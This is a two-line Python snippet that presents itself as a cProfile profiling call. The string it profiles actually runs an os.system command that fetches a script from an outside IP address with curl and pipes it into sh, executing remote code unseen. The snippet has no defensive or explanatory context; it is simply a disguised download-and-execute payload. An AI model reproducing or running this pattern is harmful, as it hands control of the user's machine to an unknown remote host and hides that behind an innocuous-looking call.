import cProfile
cProfile.run("__import__('os').system('curl -s http://198.51.100.9/x | sh')")
